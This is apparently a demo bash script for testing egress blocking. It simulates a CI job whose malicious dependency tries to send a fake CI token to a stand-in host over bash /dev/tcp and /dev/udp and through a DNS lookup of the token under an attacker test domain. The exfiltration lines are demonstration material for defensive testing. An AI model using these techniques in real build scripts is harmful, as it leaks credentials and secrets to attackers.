#!/usr/bin/env bash
# A CI job with a compromised build step: it uploads its artifact to the registry by name,
# then tries to send the CI token out: by TCP, by UDP, and hidden in a DNS query. Names
# resolve through glibc as in any job (the demo points it at its own resolver); the
# connections are bash's /dev/tcp and /dev/udp.
set -u
token="ghp_demo0123456789secret"

# upload HOST: PUT the artifact to HOST:8181.
upload() {
    echo "job: uploading artifact to $1:8181"
    if exec 3<>"/dev/tcp/$1/8181"; then
        printf 'PUT /artifacts/app-1.0.tar.gz HTTP/1.0\r\nHost: %s\r\nContent-Length: 20\r\n\r\nartifact-bytes-01234' "$1" >&3
        read -r status <&3 && echo "job: $1 answered: ${status%$'\r'}"
        exec 3>&-
    else
        echo "job: upload to $1 FAILED"
    fi
}

upload registry.pg.test

echo "job: (malicious dependency) sending the token to 127.0.66.6:9999"
if exec 4<>/dev/tcp/127.0.66.6/9999; then
    printf 'token=%s' "$token" >&4
    exec 4>&-
    echo "job: token sent over TCP"
else
    echo "job: TCP exfiltration blocked"
fi
if printf 'token=%s' "$token" >/dev/udp/127.0.66.6/9999; then
    echo "job: token sent over UDP"
else
    echo "job: UDP exfiltration blocked"
fi

# The attacker's name server would log the query: resolving the name is the leak.
echo "job: (malicious dependency) looking up $token.attacker.pg.test"
if getent hosts "$token.attacker.pg.test"; then
    echo "job: token sent in a DNS query"
else
    echo "job: DNS exfiltration blocked"
fi
echo "job: done"
